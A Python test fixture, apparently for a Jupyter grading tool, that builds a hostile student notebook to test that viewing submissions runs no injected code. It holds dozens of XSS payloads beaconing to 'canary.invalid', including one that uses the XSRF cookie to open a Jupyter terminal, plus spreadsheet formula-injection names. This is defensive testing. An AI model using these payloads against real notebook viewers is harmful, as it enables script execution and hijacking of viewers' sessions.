"""A submission that tries to run code in the browser of whoever looks at it, from every place a student can write to.

Every attack announces itself: it sets `window.pwned`, or asks for an address of a host that does not exist, or stands
in the page as a link or attribute with that address. The address ends with where the attack was put and what it is.
"""

from __future__ import annotations

import base64
import copy
import io
import json

import matplotlib.image
import nbformat
import numpy as np

from grading.cells import exercise_name, is_check, is_hand_graded, is_solution
from tests.sample import CHAPTER, COURSE, NOTEBOOK

HOST = "canary.invalid"
TERMINAL = (
    "fetch('/api/terminals', {method: 'POST', headers: "
    "{'X-XSRFToken': (document.cookie.match('_xsrf=([^;]*)') || [])[1]}}).then(() => fetch('ADDRESS'))"
)

# ADDRESS is where an attack reports to, SCRIPT is JavaScript that does so
TAGS = {
    "script": "<script>SCRIPT</script>",
    "script-type": '<script type="module">SCRIPT</script>',
    "script-source": '<script src="ADDRESS"></script>',
    "terminal": f"<script>{TERMINAL}</script>",
    "image": '<img src="ADDRESS">',
    "image-error": '<img src=x onerror="SCRIPT">',
    "image-slash": '<img/src=x/onerror="SCRIPT">',
    "image-set": '<img srcset="ADDRESS 1x">',
    "svg": '<svg onload="SCRIPT"></svg>',
    "svg-script": "<svg><script>SCRIPT</script></svg>",
    "svg-link": '<svg><a xlink:href="javascript:SCRIPT"><text y="20">click</text></a></svg>',
    "svg-animate": '<svg><animate onbegin="SCRIPT" attributeName=x dur=1s></animate></svg>',
    "iframe": '<iframe src="ADDRESS"></iframe>',
    "iframe-script": '<iframe src="javascript:SCRIPT"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>fetch('ADDRESS')</script>\"></iframe>",
    "details": '<details open ontoggle="SCRIPT">details</details>',
    "object": '<object data="ADDRESS"></object>',
    "embed": '<embed src="ADDRESS">',
    "video": '<video><source onerror="SCRIPT"></video>',
    "focus": '<input autofocus onfocus="SCRIPT">',
    "style": '<style>@import "ADDRESS";</style>',
    "style-attribute": '<p style="background: url(ADDRESS)">styled</p>',
    "sheet": '<link rel="stylesheet" href="ADDRESS">',
    "form": '<form action="ADDRESS"><button>send</button></form>',
    "form-script": '<form><button formaction="javascript:SCRIPT">send</button></form>',
    "link": '<a href="javascript:SCRIPT">click</a>',
    "link-entity": '<a href="&#106;avascript:SCRIPT">click</a>',
    "hover": '<b onmouseover="SCRIPT">hover</b>',
    "animation": '<style>@keyframes k{}</style><b style="animation: k 1s" onanimationstart="SCRIPT">moves</b>',
    "comment": '<!-- --!><img src=x onerror="SCRIPT"> -->',
    "title-breakout": '</title></style></textarea></script><img src=x onerror="SCRIPT">',
}
# last of all, because what comes after them goes astray
MOVES = {"refresh": '<meta http-equiv="refresh" content="0;url=ADDRESS">', "base": '<base href="ADDRESS/">'}
LINKS = {
    "inline": "[click](javascript:fetch('ADDRESS'))",
    "inline-angle": "[click](<javascript:fetch('ADDRESS')>)",
    "inline-entity": "[click](&#106;avascript:fetch('ADDRESS'))",
    "inline-case": "[click](JaVaScRiPt:fetch('ADDRESS'))",
    "inline-data": "[click](data:text/html,<script>fetch('ADDRESS')</script>)",
    "inline-web": "[click](ADDRESS)",
    "inline-relative": "[click](//canary.invalid/NAME)",
    "reference": "[click][NAME]\n\n[NAME]: javascript:fetch('ADDRESS')",
    "reference-short": "[NAME]\n\n[NAME]: javascript:fetch('ADDRESS') 'title'",
    "autolink": "<javascript:fetch('ADDRESS')>",
    "autolink-web": "<ADDRESS>",
    "bare": "see ADDRESS",
    "picture": "![picture](ADDRESS)",
    "picture-reference": "![picture][NAME]\n\n[NAME]: ADDRESS",
    "picture-title": '!["onerror="SCRIPT](x "\'onerror=\'SCRIPT")',
    "mermaid": '```mermaid\ngraph TD\nA["<img src=x onerror=\\"SCRIPT\\">"]\nclick A href "javascript:SCRIPT"\n```',
    "mermaid-tilde": '~~~ mermaid\n<img src=x onerror="SCRIPT">\n~~~',
    "fence": '```"><img/src=x/onerror="SCRIPT">\ncode\n```',
    "heading": '# "onmouseover="SCRIPT" <b onmouseover="SCRIPT">title</b>',
    "table": '| a |\n|---|\n| <img src=x onerror="SCRIPT"> |',
    "entity-tag": "&lt;img src=x onerror=SCRIPT&gt;",
}
ATTACHED = {"attached": "![picture](attachment:NAME.svg)"}
FORMULAS = {
    "href": "$\\href{javascript:fetch('ADDRESS')}{click}$",
    "href-web": "$\\href{ADDRESS}{click}$",
    "href-display": "$$\\href{javascript:fetch('ADDRESS')}{click}$$",
    "href-brackets": "\\\\(\\href{javascript:fetch('ADDRESS')}{click}\\\\)",
    "href-environment": "\\begin{align}\\href{javascript:fetch('ADDRESS')}{click}\\end{align}",
    "href-entity": "&#36;\\\\&#104;ref{javascript:fetch('ADDRESS')}{click}&#36;",
    "href-escaped": "\\$\\\\href{javascript:fetch('ADDRESS')}{click}\\$",
    "href-macro": "$\\def\\x{\\href{javascript:fetch('ADDRESS')}}\\x{click}$",
    "href-let": "$\\let\\x\\href \\x{javascript:fetch('ADDRESS')}{click}$",
    "require": "$\\require{html}\\href{javascript:fetch('ADDRESS')}{click}$",
    "style": "$\\style{background: url(ADDRESS)}{x}$",
    "box": "$\\bbox[background: url(ADDRESS)]{x}$",
    "image": "$\\includegraphics{ADDRESS}$",
    "unicode": "$\\unicode[x; background: url(ADDRESS)]{65}$",
    "class": "$\\class{modal-backdrop}{x}\\cssId{notebook}{y}$",
    "text": '$\\text{<img src=x onerror="SCRIPT">}$',
}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="SCRIPT"><script>SCRIPT</script><image href="ADDRESS"/></svg>'
ANSI = (
    '\x1b[31m<img src=x onerror="SCRIPT">\x1b[0m'
    '\x1b]8;;javascript:SCRIPT\x07click\x1b]8;;\x07\x1b[38;2;"onmouseover="SCRIPTm'
)


# folders and files that students name, without the slash that no name can hold
ODD_FILE = '<img src=x onerror="window.pwned=1">'
ODD_NAMES = [ODD_FILE, '"-(window.pwned=1)-"', "=1+1", "@SUM(1)"]
ODD_PERSON = {"last_name": "=1+1", "first_name": "@SUM(1)", "email": "\t-1+1\r"}


def attack(place: str, name: str, text: str) -> str:
    """Fill in where an attack reports to."""
    name = f"{place}.{name}"
    address = f"http://{HOST}/{name}"
    script = f"window.pwned='{name}';fetch('{address}')"
    return text.replace("SCRIPT", script).replace("ADDRESS", address).replace("NAME", name)


def attacks(place: str, *tables: dict[str, str]) -> str:
    """Attacks of some tables, a paragraph each, and a sentence by which their place is recognised."""
    texts = [attack(place, name, text) for table in tables for name, text in table.items()]
    return "\n\n".join([sentence(place), *texts])


def sentence(place: str) -> str:
    """Harmless words that have to stay readable wherever attacks are put."""
    return f"These words stand in {place}"


# --- cells

ANSWER = attacks("answer", TAGS, LINKS, ATTACHED, FORMULAS, MOVES)
ATTACHMENTS = {"answer.attached.svg": {"image/svg+xml": base64.b64encode(attack("file", "svg", SVG).encode()).decode()}}
SHORT = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>$\\href{javascript:alert(1)}{x}$'

RAISES = f"""
def sgd_step(theta, grad, lr):
    raise type("Odd" + {SHORT!r}, (Exception,), {{}})({sentence("message") + SHORT!r})  # {SHORT}
"""
RETURNS_AN_OBJECT = f"""
def linear_decay(k, lr0, lr_tau, tau):
    return type({SHORT!r}, (), {{"__repr__": lambda self: {SHORT!r}, "__str__": lambda self: {SHORT!r}}})()
"""
ODD_SIGNATURE = f"""
import inspect
class Odd(inspect.Signature):
    parameters = {{{SHORT!r}: None}}
    def bind(self, *values, **named):
        raise TypeError({SHORT!r})
def exponential_decay(k, lr0, rate):
    return 0
exponential_decay.__signature__ = Odd()
"""
RETURNS_A_TEXT = f"""
def exponential_average(x, beta, correct):
    return {SHORT!r}
"""
RETURNS_A_DICTIONARY = f"""
def momentum_step(theta, grad, velocity, lr, momentum):
    return {{{SHORT!r}: {SHORT!r}}}
"""
RAISES_WITHIN = f"""
def nesterov_step(theta, velocity, grad_fn, lr, momentum):
    exec(compile("raise KeyError(x)", {SHORT!r}, "exec"), {{"x": {SHORT!r}}})
"""
SOURCES = {
    "sgd_step": RAISES,
    "linear_decay": RETURNS_AN_OBJECT,
    "exponential_decay": ODD_SIGNATURE,
    "exponential_average": RETURNS_A_TEXT,
    "momentum_step": RETURNS_A_DICTIONARY,
    "nesterov_step": RAISES_WITHIN,
    "averaged_momentum_step": f"{SHORT} is no Python at all",
}


def _png() -> str:
    file = io.BytesIO()
    matplotlib.image.imsave(file, np.zeros((4, 4, 3)))
    return base64.b64encode(file.getvalue()).decode()


def _display_data(data: dict, metadata: dict | None = None, kind: str = "display_data") -> dict:
    more = {"execution_count": 1} if kind == "execute_result" else {}
    return {"output_type": kind, "data": data, "metadata": metadata or {}, **more}


# the outputs that the student's own computer stored in the notebook, and that the student's code shows again
OUTPUTS = [
    _display_data({"text/html": attacks("html", TAGS, MOVES), "text/plain": sentence("plain")}),
    _display_data({"text/markdown": attacks("markdown", TAGS, LINKS, FORMULAS)}),
    _display_data({"text/latex": attacks("latex", TAGS, FORMULAS)}),
    _display_data({"image/svg+xml": attack("svg", "svg", SVG)}, kind="execute_result"),
    _display_data({"application/javascript": attack("javascript", "script", "SCRIPT")}),
    _display_data({"text/vnd.mermaid": attack("mermaid-output", "link", LINKS["mermaid"])}),
    _display_data({"application/pdf": "ADDRESS", "application/geo+json": {"x": SHORT}, "text/plain": SHORT}),
    _display_data(
        {"image/png": _png(), "text/plain": sentence("picture")},
        {
            "image/png": {
                side: attack("metadata", side, "1 onerror=SCRIPT onload=SCRIPT") for side in ("width", "height")
            }
        },
    ),
    _display_data({"image/png": attack("png", "quote", 'AAAA" onerror="SCRIPT" x="'), "text/plain": "picture"}),
    _display_data({"image/jpeg": attack("jpeg", "quote", 'AAAA" onerror="SCRIPT" x="')}),
    _display_data({"application/vnd.jupyter.widget-view+json": {"model_id": SHORT, "version_major": 2}}),
    _display_data({"application/vnd.descent.verdict+json": {"exercise": SHORT, "message": SHORT}, "text/plain": "25"}),
    {"output_type": "stream", "name": "stdout", "text": attacks("stream", TAGS) + attack("ansi", "colour", ANSI)},
]
ERROR = {
    "output_type": "error",
    "ename": attack("ename", "image", TAGS["image-error"]),
    "evalue": attack("evalue", "image", TAGS["image-error"]),
    "traceback": [attack("traceback", name, text) for name, text in {**TAGS, "colour": ANSI}.items()],
}

SHOW = f"""
# {attacks("comment", TAGS).replace(chr(10), " ")}
import json, sys
from IPython import get_ipython
from IPython.display import display
{sentence("source")!r}
for output in json.loads({json.dumps(OUTPUTS)!r}):
    if output["output_type"] == "stream":
        print(output["text"])
    else:
        display(output["data"], metadata=output["metadata"], raw=True)
get_ipython().set_next_input({SHORT!r})
print({attack("ansi", "stderr", ANSI)!r}, file=sys.stderr)
"""
FAIL = f"""
{attacks("docstring", TAGS, LINKS)!r}
raise type({ERROR["ename"]!r}, (Exception,), {{}})({attacks("exception", TAGS)!r})
"""


def hostile_notebook() -> dict:
    """The release, with attacks wherever a student can write, as it may be handed in. Its kernel would not matter."""
    notebook = json.loads(json.dumps(COURSE.read_release(CHAPTER, NOTEBOOK)))
    for number, cell in enumerate(notebook["cells"]):
        node = nbformat.from_dict(cell)
        if is_hand_graded(node):
            cell["source"] = ANSWER
            cell["attachments"] = ATTACHMENTS
        elif is_solution(node):
            cell["source"] = SOURCES[exercise_name(node)]
        elif is_check(node):
            cell["source"] = SHORT
            cell["outputs"] = [*OUTPUTS, ERROR]
        elif cell["cell_type"] == "markdown":
            cell["source"] += attacks("prose", TAGS, LINKS) if number < 3 else ""
        cell["metadata"].update(tags=[SHORT, "skip-execution"], name=SHORT, magics_language=SHORT)
    extra = [nbformat.v4.new_code_cell(source) for source in (SHOW, FAIL)]
    for cell in extra:
        cell.update(id="x" + str(extra.index(cell)), outputs=[*OUTPUTS, ERROR], execution_count=1)
        cell.metadata.update(tags=[SHORT], trusted=True, collapsed=False, nbgrader={"grade_id": SHORT})
    odd = {"cell_type": "raw", "id": SHORT, "source": attacks("raw", TAGS), "metadata": {"format": "text/html"}}
    notebook["cells"][3:3] = [*json.loads(json.dumps(extra)), odd]
    notebook["metadata"] = {
        "title": SHORT,
        "authors": [{"name": SHORT}],
        "kernelspec": {"name": "python3", "display_name": SHORT, "language": SHORT},
        "language_info": {"name": SHORT, "pygments_lexer": SHORT, "codemirror_mode": SHORT, "version": SHORT},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {SHORT: SHORT}, "x": "</script>" + SHORT}},
    }
    return notebook


def without_cleaning(graded: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Return a graded notebook with the student's answers and outputs as they were, as nbgrader itself leaves them.

    Without the attacks that move the page away, before the others have shown themselves.
    """
    notebook = copy.deepcopy(graded)
    for cell in notebook.cells:
        if is_hand_graded(cell):
            cell.source, cell.attachments = ANSWER, nbformat.from_dict(ATTACHMENTS)
        elif cell.source in (SHOW, FAIL):
            cell.outputs = nbformat.from_dict([*OUTPUTS, ERROR])
    text = json.dumps(notebook)
    for place in ("answer", "html"):
        for name, move in MOVES.items():
            text = text.replace(json.dumps(attack(place, name, move))[1:-1], "")
    return nbformat.from_dict(json.loads(text))
